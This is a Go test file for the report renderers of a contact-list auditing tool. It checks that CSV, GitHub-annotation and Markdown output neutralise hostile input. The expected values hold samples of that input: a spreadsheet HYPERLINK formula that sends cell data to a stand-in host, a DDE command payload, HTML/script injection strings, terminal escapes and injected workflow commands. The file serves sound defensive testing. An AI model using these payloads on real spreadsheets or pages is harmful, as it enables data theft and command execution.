package report

import (
	"bytes"
	"encoding/csv"
	"iter"
	"maps"
	"strings"
	"testing"
	"unicode"

	"github.com/listaudit/listaudit/pkg/domain"
)

// TestCSVInjection reads the CSV of hostile cells back and checks that no
// cell a spreadsheet would evaluate is left as is.
func TestCSVInjection(t *testing.T) {
	out := render(t, "csv", hostileFixture(), Options{})
	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v\n%s", err, out)
	}
	if got := strings.Join(records[0], ","); got != "file,row,line,rule,severity,column,value,number,message" {
		t.Errorf("header = %s", got)
	}
	for i, rec := range records[1:] {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("record %d column %s: cell %q starts with a formula character", i+1, records[0][j], cell)
			}
		}
	}
	for _, want := range [][2]string{
		{"file", `'=evil,dir/con:tacts.csv`},
		{"value", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"message", `'=HYPERLINK("http://evil.example","x")`},
		{"column", `'=cmd|' /C calc'!A0`},
		{"value", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"message", "'@SUM(A1:A9)"},
		{"value", "'-2+3"},
		{"column", "'-col"},
		{"value", "' =1"}, // tabs and line breaks become spaces, after the quote
		{"message", "' =1 tab first"},
		{"column", "' col"},
		{"value", "' =1"},
		{"value", "'+1+1"},
		{"number", "'+2547******78"},
	} {
		col := strings.Index("file,row,line,rule,severity,column,value,number,message,", want[0]+",")
		idx := strings.Count("file,row,line,rule,severity,column,value,number,message"[:col], ",")
		found := false
		for _, rec := range records[1:] {
			if rec[idx] == want[1] {
				found = true
			}
		}
		if !found {
			t.Errorf("no %s cell %q in\n%s", want[0], want[1], out)
		}
	}
	// Harmless cells are left alone.
	if !strings.Contains(string(out), "\nexports/crm.tsv,1,2,duplicate,warning,msisdn,") {
		t.Errorf("plain cells changed:\n%s", out)
	}
}

// TestCSVControlCharacters checks text from the list is made printable as
// the table makes it: an escape sequence in a cell, a header or a file name
// would drive the terminal of whoever prints the CSV.
func TestCSVControlCharacters(t *testing.T) {
	r := fixture()
	f := &r.Findings.(domain.FindingSlice)[0]
	f.Field, f.Column, f.Value = domain.FieldConsentAt, "con\x1b]0;title\asent", "x\x1b[31mred\x01\x7f\u0085\u202e"
	f.Message = "tab\there, line\nbreak\r\nand \x1b[2J"
	f.Loc.File = "dir/\x1b[1mlist.csv"
	out := string(render(t, "csv", r, Options{}))
	if want := "dir/?[1mlist.csv,2,3,consent-missing,error,con?]0;title?sent,x?[31mred????,'+2547******78,\"tab here, line break  and ?[2J\"\n"; !strings.Contains(out, "\n"+want) {
		t.Errorf("first finding's row not made printable; want %q in\n%s", want, out)
	}
	if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) }); i >= 0 {
		t.Errorf("control character %q at %d in\n%s", out[i], i, out)
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "abc": "abc", "=1": "'=1", "+2547******78": "'+2547******78", "-": "'-", "@x": "'@x",
		"\t=1": "'\t=1", "\r=1": "'\r=1", " =1": " =1", "'=1": "''=1", "a=1": "a=1",
	} {
		if got := neutralise(in); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestGitHubEscaping(t *testing.T) {
	for in, want := range map[string]string{
		"100% sure":      "100%25 sure",
		"a\r\nb":         "a%0D%0Ab",
		"x::error::evil": "x::error::evil",
		"%0A":            "%250A",
		"tab\tbell\a":    "tab\tbell?",
	} {
		if got := githubData(in); got != want {
			t.Errorf("githubData(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"dir/a,b:c.csv": "dir/a%2Cb%3Ac.csv",
		"50%\n":         "50%25%0A",
	} {
		if got := githubProperty(in); got != want {
			t.Errorf("githubProperty(%q) = %q, want %q", in, got, want)
		}
	}

	out := string(render(t, "github", hostileFixture(), Options{}))
	for i, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		if !strings.HasPrefix(line, "::error ") && !strings.HasPrefix(line, "::warning ") && !strings.HasPrefix(line, "::notice") {
			t.Errorf("line %d is not a workflow command: %q", i+1, line)
		}
		if strings.ContainsAny(line, "\r") {
			t.Errorf("line %d holds a carriage return: %q", i+1, line)
		}
		// The properties end at the first "::" after the command name.
		props := line[strings.Index(line, " ")+1:]
		if j := strings.Index(props, "::"); j >= 0 {
			props = props[:j]
		}
		for _, p := range strings.Split(props, ",") {
			if p != "" && !strings.HasPrefix(p, "file=") && !strings.HasPrefix(p, "line=") && !strings.HasPrefix(p, "title=") {
				t.Errorf("line %d: property %q (a comma or colon escaped badly)", i+1, p)
			}
		}
	}
	if !strings.Contains(out, "::warning file==evil%2Cdir/con%3Atacts.csv,line=9,title=consent-expired::Consent date: a | b") ||
		!strings.Contains(out, "h%0Anext::error::x %250A 50%25, i:j") {
		t.Errorf("hostile message not escaped as expected:\n%s", out)
	}
}

// TestGitHubCap checks the cap is per kind, as GitHub shows at most 10
// annotations of each kind per step (it was per rule, which let 13 errors
// through and hid the verdict, written last): the verdict comes first, as
// a notice whether the run fails or passes (an error took one of the 10
// error slots from the findings), each rule gets one annotation before
// any gets a second, and a plain line counts the rest.
func TestGitHubCap(t *testing.T) {
	r := manyFindings(120) // 20 findings for each of 6 rules: 2 error, 3 warning, 1 info
	out := string(render(t, "github", r, Options{}))
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if want := "::notice title=listaudit::✗ FAILED: 40 errors, 60 warnings, 20 info in 2 files (fail-on: error)"; lines[0] != want {
		t.Errorf("first line %q, want the verdict %q", lines[0], want)
	}
	kinds := map[string]int{}
	for _, line := range lines {
		kinds[strings.SplitN(line, " ", 2)[0]]++
	}
	if want := map[string]int{"::error": 10, "::warning": 10, "::notice": 10, "listaudit:": 1}; !maps.Equal(kinds, want) {
		t.Errorf("lines by kind %v, want %v:\n%s", kinds, want, out)
	}
	for rule, want := range map[string]int{"phone-invalid": 5, "consent-missing": 5, "duplicate": 4, "stale": 3, "phone-not-e164": 3, "value-invalid": 9} {
		if got := strings.Count(out, "title="+rule+"::"); got != want {
			t.Errorf("%d %s annotations, want %d", got, rule, want)
		}
	}
	if want := "listaudit: 91 findings not annotated (at most 10 annotations of each kind per step, as GitHub shows no more): 15 consent-missing, 15 phone-invalid, 16 duplicate, 17 phone-not-e164, 17 stale, 11 value-invalid. " +
		"See every finding in a full report: --report json=FILE, csv=FILE or sarif=FILE."; lines[len(lines)-1] != want {
		t.Errorf("last line %q, want %q", lines[len(lines)-1], want)
	}

	// A passing run's verdict is a notice too, and takes the same slot.
	pass := manyFindings(120)
	pass.Verdict.Failed = false
	out = string(render(t, "github", pass, Options{}))
	if want := "::notice title=listaudit::✓ PASSED: 40 errors, 60 warnings, 20 info in 2 files (fail-on: error)\n"; !strings.HasPrefix(out, want) {
		t.Errorf("passing run: first line %q, want %q", out[:strings.Index(out, "\n")+1], want)
	}
	if got := strings.Count(out, "::notice file="); got != 9 {
		t.Errorf("passing run: %d info annotations besides the verdict, want 9", got)
	}
	if got := strings.Count(out, "::error file="); got != 10 {
		t.Errorf("passing run: %d error annotations, want 10", got)
	}

	out = string(render(t, "github", r, Options{AnnotationsPerKind: -1}))
	if got := strings.Count(out, "title=phone-invalid::"); got != 20 || strings.Contains(out, "not annotated") {
		t.Errorf("uncapped: %d phone-invalid annotations, want 20 and no count of the rest", got)
	}
	if first := out[:strings.Index(out, "\n")+1]; first != "::notice title=listaudit::✗ FAILED: 40 errors, 60 warnings, 20 info in 2 files (fail-on: error)\n" {
		t.Errorf("uncapped: first line %q, want the verdict", first)
	}
}

// TestGitHubPath checks an annotation names its file as cleaned, the path
// GitHub finds in the repository.
func TestGitHubPath(t *testing.T) {
	r := fixture()
	f := &r.Findings.(domain.FindingSlice)[0]
	f.Loc.File = "./testdata//contacts.csv"
	if out := string(render(t, "github", r, Options{})); !strings.Contains(out, "\n::error file=testdata/contacts.csv,line=3,title=consent-missing::") {
		t.Errorf("path not cleaned:\n%s", out)
	}
}

func TestMarkdownEscaping(t *testing.T) {
	for in, want := range map[string]string{
		"a | b":               `a \| b`,
		"*x* _y_ `z` ~s~ $m$": "\\*x\\* \\_y\\_ \\`z\\` \\~s\\~ \\$m\\$",
		"[l](http://x)":       "\\[l\\](http:\u200d//x)",
		// GitHub links mentions, references, e-mail addresses and URLs
		// after rendering: a zero-width joiner breaks each.
		"@octocat please see #1 www.evil.example http://evil.example/x WWW.a.b a@b.example": "@\u200doctocat please see #\u200d1 www\u200d.evil.example http:\u200d//evil.example/x WWW\u200d.a.b a@\u200db.example",
		"<img src=x> & </td>":   `\<img src=x\> \& \</td\>`,
		"line\nbreak\r\ttab":    "line break  tab",
		"back\\slash":           `back\\slash`,
		"bell\a \u202eevil":     "bell? ?evil",
		"plain: 5 (max 2), ok.": "plain: 5 (max 2), ok.",
	} {
		if got := markdownText(in); got != want {
			t.Errorf("markdownText(%q) = %q, want %q", in, got, want)
		}
	}
	if got := markdownCode("+2547******78"); got != "`+2547******78`" {
		t.Errorf("markdownCode = %q", got)
	}
	if got := markdownCode("a`b|c"); got != "a\\`b\\|c" {
		t.Errorf("markdownCode with a backtick = %q", got)
	}

	out := string(render(t, "markdown", hostileFixture(), Options{}))
	for i, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "|") {
			continue
		}
		// Every row of a findings table has 4 cells: 5 unescaped pipes.
		unescaped := strings.Count(line, "|") - strings.Count(line, `\|`)
		if unescaped != 5 && unescaped != 4 && unescaped != 3 {
			t.Errorf("line %d has %d cell separators: %q", i+1, unescaped, line)
		}
		for _, bad := range []string{"<img", "</script", "](http", "*c*", "`e`"} {
			if j := strings.Index(line, bad); j >= 0 && (j == 0 || line[j-1] != '\\') {
				t.Errorf("line %d keeps markup %q unescaped: %q", i+1, bad, line)
			}
		}
	}
	if !strings.Contains(out, `| Consent date: a \| b \*c\* \_d\_ \[l\](http:`+"\u200d"+`//x) \<img src=x onerror=alert(1)\> \</script\>\<script\>alert(2)\</script\> \`+"`"+`e\`+"`"+` \~f\~ \$g\$ \& h next::error::x %0A 50%, i:j |`) {
		t.Errorf("hostile message not escaped as expected:\n%s", out)
	}
}

func TestMarkdownFirstFindingsPerRule(t *testing.T) {
	out := string(render(t, "markdown", manyFindings(60), Options{}))
	if got := strings.Count(out, "| `+2547"); got != 6*markdownPerRule {
		t.Errorf("%d finding rows, want %d", got, 6*markdownPerRule)
	}
	if !strings.Contains(out, "\n… and 5 more (see them all in a full report: `--report html=audit.html`).\n") {
		t.Errorf("no more line saying how to write a full report:\n%s", out)
	}
	if !strings.HasPrefix(out, "## ❌ listaudit: failed\n") {
		t.Errorf("heading: %q", out[:40])
	}
	pass := fixtureFailOn(domain.Threshold{Never: true})()
	if out := string(render(t, "markdown", pass, Options{})); !strings.HasPrefix(out, "## ✅ listaudit: passed\n") {
		t.Errorf("heading of a passing run: %q", out[:40])
	}
}

// TestMarkdownFolds checks a rule section that leaves findings out is
// folded in <details>, set apart by blank lines so that GitHub renders the
// table inside, and names the full reports the run wrote; a short one is
// not folded.
func TestMarkdownFolds(t *testing.T) {
	for _, tt := range []struct {
		reports []string
		more    string
	}{
		{nil, "… and 1 more (see them all in a full report: `--report html=audit.html`)."},
		{[]string{"audit.html"}, "… and 1 more (see the full report: `audit.html`)."},
		{[]string{"out/findings.json", "a`b.csv"}, "… and 1 more (see the full reports: `out/findings.json`, a\\`b.csv)."},
	} {
		out := string(render(t, "markdown", manyFindings(36), Options{FullReports: tt.reports})) // 6 of each of 6 rules
		section := "### `duplicate` · 6 findings\n\n" +
			"The same number (after normalisation) is on an earlier row of any input.\n\n" +
			"<details><summary>The first 5 of 6 <code>duplicate</code> findings</summary>\n\n" +
			"| Location | Severity | Number | Message |\n| :-- | :-- | :-- | :-- |\n"
		if !strings.Contains(out, section) {
			t.Errorf("%v: no folded section %q:\n%s", tt.reports, section, out)
		}
		if got := strings.Count(out, "\n"+tt.more+"\n\n</details>\n"); got != 6 {
			t.Errorf("%v: %d sections end %q and </details>, want 6:\n%s", tt.reports, got, tt.more, out)
		}
		if got := strings.Count(out, "<details>"); got != 6 {
			t.Errorf("%v: %d <details>, want 6", tt.reports, got)
		}
	}
	if out := string(render(t, "markdown", fixture(), Options{})); strings.Contains(out, "details>") {
		t.Errorf("sections of 5 findings or fewer folded:\n%s", out)
	}
	// The rule id is text of an HTML element there: no backslash escapes.
	if got := markdownHTMLText("a<b>&'\n@x"); got != "a&lt;b&gt;&amp;&#39;?@\u200dx" {
		t.Errorf("markdownHTMLText = %q", got)
	}
}

// TestMarkdownOfText checks a text summary becomes a code block under the
// Markdown report's heading, fenced by more backticks than it holds in a
// row, so that nothing in it ends the block.
func TestMarkdownOfText(t *testing.T) {
	pass := fixtureFailOn(domain.Threshold{Never: true})()
	for _, tt := range []struct {
		r    *domain.Result
		text string
		want string
	}{
		{fixture(), "Rows 3 · kept 2\n", "## ❌ listaudit fix: failed\n\n```text\nRows 3 · kept 2\n```\n"},
		{pass, "no newline", "## ✅ listaudit fix: passed\n\n```text\nno newline\n```\n"},
		{fixture(), "Wrote ````x.csv and `y`\n", "## ❌ listaudit fix: failed\n\n`````text\nWrote ````x.csv and `y`\n`````\n"},
	} {
		var b bytes.Buffer
		if err := MarkdownOfText(&b, tt.r, "fix", []byte(tt.text)); err != nil || b.String() != tt.want {
			t.Errorf("MarkdownOfText(%q) = %q, %v; want %q", tt.text, b.String(), err, tt.want)
		}
	}
}

// TestListsEveryFinding checks which reports the Markdown summary names as
// full: those that list every finding with the run's options.
func TestListsEveryFinding(t *testing.T) {
	for _, tt := range []struct {
		format string
		opts   Options
		want   bool
	}{
		{"json", Options{}, true}, {"csv", Options{}, true}, {"html", Options{}, true},
		{"sarif", Options{}, true}, {"sarif", Options{SARIFMaxResults: 5000}, false},
		{"table", Options{Limit: 0}, true}, {"table", Options{Limit: 50}, false},
		{"junit", Options{}, false}, {"github", Options{}, false}, {"markdown", Options{}, false},
	} {
		if got := ListsEveryFinding(tt.format, tt.opts); got != tt.want {
			t.Errorf("ListsEveryFinding(%s, %+v) = %v, want %v", tt.format, tt.opts, got, tt.want)
		}
	}
	for _, name := range Formats() {
		ListsEveryFinding(name, Options{}) // every format is answered for
	}
}

// TestDeterministic renders every format twice and compares.
func TestDeterministic(t *testing.T) {
	for _, name := range Formats() {
		a := render(t, name, manyFindings(300), Options{})
		b := render(t, name, manyFindings(300), Options{})
		if !bytes.Equal(a, b) {
			t.Errorf("%s output differs between two runs", name)
		}
	}
}

// TestUnknownRule checks a finding of a rule the catalogue lacks still
// shows in the formats that list rules.
func TestUnknownRule(t *testing.T) {
	r := fixture()
	r.Findings.(domain.FindingSlice)[0].Rule = "zz-custom"
	r.Decide()
	for _, name := range []string{"sarif", "junit", "html", "markdown"} {
		if out := render(t, name, r, Options{}); !bytes.Contains(out, []byte("zz-custom")) {
			t.Errorf("%s output does not name the unknown rule", name)
		}
	}
}

// TestCappedFormatsStopReading renders the github and markdown reports from
// findings that fail the test if read past the point where every rule has
// all it can show: the counts come from the summary, so a million findings
// need not all be read back.
func TestCappedFormatsStopReading(t *testing.T) {
	r := manyFindings(600) // 100 of each of six rules
	fs := r.Findings.(domain.FindingSlice)
	for _, tt := range []struct {
		format string
		cap    int
		more   string // how the report counts the left-out findings
	}{{"github", defaultAnnotationsPerKind, "91 value-invalid"}, {"markdown", markdownPerRule, "95 more"}} {
		// Where the last rule gets its cap-th finding.
		seen, need := map[string]int{}, 0
		for i := range fs {
			if seen[fs[i].Rule]++; seen[fs[i].Rule] == tt.cap {
				if need++; need == len(r.Summary.ByRule) {
					need = i + 1
					break
				}
			}
		}
		r.Findings = stopAfter{fs, t, need}
		out := string(render(t, tt.format, r, Options{}))
		if !strings.Contains(out, tt.more) {
			t.Errorf("%s: no %q count of the findings left out:\n%s", tt.format, tt.more, out)
		}
	}
}

// stopAfter yields a list's findings and fails the test when more than max
// are read.
type stopAfter struct {
	domain.FindingSlice
	t   *testing.T
	max int
}

func (s stopAfter) All() iter.Seq[*domain.Finding] {
	return func(yield func(*domain.Finding) bool) {
		for i := range s.FindingSlice {
			if i == s.max {
				s.t.Errorf("finding %d read: the report should have stopped at %d", i+1, s.max)
				return
			}
			f := s.FindingSlice[i]
			if !yield(&f) {
				return
			}
		}
	}
}

// TestCSVFollowsFirstInput: the findings CSV is written for the first
// input as fix writes its outputs: ';' when it was, and a UTF-8 BOM when it
// had one or was in another encoding (a tester's finding: a Windows-1252
// ';' list gave a ',' report without a BOM, which a French Excel shows as
// one column of "TÃ©lÃ©phone").
func TestCSVFollowsFirstInput(t *testing.T) {
	finding := domain.Finding{Rule: "date-invalid", Severity: domain.Warning, Field: domain.FieldConsentAt,
		Loc: domain.Location{File: "liste.csv", Row: 1, Line: 2}, Message: "Date du consentement: a; b"}
	for _, tc := range []struct {
		name   string
		inputs []domain.Input
		want   string
	}{
		{"no input", nil, "file,row,line,rule,severity,column,value,number,message\nliste.csv,1,2,date-invalid,warning,,,,Date du consentement: a; b\n"},
		{"utf-8 comma", []domain.Input{{Path: "liste.csv", Delimiter: ','}},
			"file,row,line,rule,severity,column,value,number,message\nliste.csv,1,2,date-invalid,warning,,,,Date du consentement: a; b\n"},
		{"windows-1252 semicolon", []domain.Input{{Path: "liste.csv", Delimiter: ';', ForExcel: true}, {Path: "b.csv", Delimiter: ','}},
			"\ufefffile;row;line;rule;severity;column;value;number;message\nliste.csv;1;2;date-invalid;warning;;;;\"Date du consentement: a; b\"\n"},
		{"utf-8 semicolon", []domain.Input{{Path: "liste.csv", Delimiter: ';'}},
			"file;row;line;rule;severity;column;value;number;message\nliste.csv;1;2;date-invalid;warning;;;;\"Date du consentement: a; b\"\n"},
		{"BOM tab", []domain.Input{{Path: "liste.tsv", Delimiter: '\t', ForExcel: true}},
			"\ufefffile,row,line,rule,severity,column,value,number,message\nliste.csv,1,2,date-invalid,warning,,,,Date du consentement: a; b\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := &domain.Result{Inputs: tc.inputs, Findings: domain.FindingSlice{finding}}
			if got := string(render(t, "csv", r, Options{})); got != tc.want {
				t.Errorf("csv report\n%q\nwant\n%q", got, tc.want)
			}
		})
	}
}
